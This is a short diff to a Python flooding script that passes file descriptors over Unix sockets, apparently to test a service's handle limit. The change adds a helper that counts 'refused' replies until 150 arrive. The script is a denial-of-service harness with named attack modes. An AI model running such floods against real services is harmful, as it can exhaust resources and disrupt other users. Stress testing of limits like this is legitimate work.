@@ -45,6 +45,26 @@ def fds(count):
     return [os.open("/dev/null", os.O_RDONLY) for _ in range(count)]
 
 
+def count_refusals(links, enough):
+    """Reads what comes back over all links until so many handles were refused (kind 7)."""
+    heard = dict.fromkeys(links, b"")
+    greeted = set()
+    refused = 0
+    while refused < enough:
+        for each in select.select(links, [], [])[0]:
+            data = heard[each] + each.recv(65536)
+            if each not in greeted and len(data) >= 12:
+                greeted.add(each)
+                data = data[12:]
+            while each in greeted and len(data) >= 12:
+                end = 12 + struct.unpack("<I", data[:4])[0]
+                if len(data) < end:
+                    break
+                refused += data[4] == 7
+                data = data[end:]
+            heard[each] = data
+
+
 link = dial()
 try:
     if attack == "flood":
@@ -80,6 +100,8 @@ try:
                 some = fds(1)
                 socket.send_fds(each, [frame(1, 0x80, extended(1, ack), 0, 1)], some)
                 os.close(some[0])
+        # Until all is decided: those beyond the limit are refused.
+        count_refusals(links, 150)
 except (BrokenPipeError, ConnectionResetError):
     pass
 print("sent", flush=True)
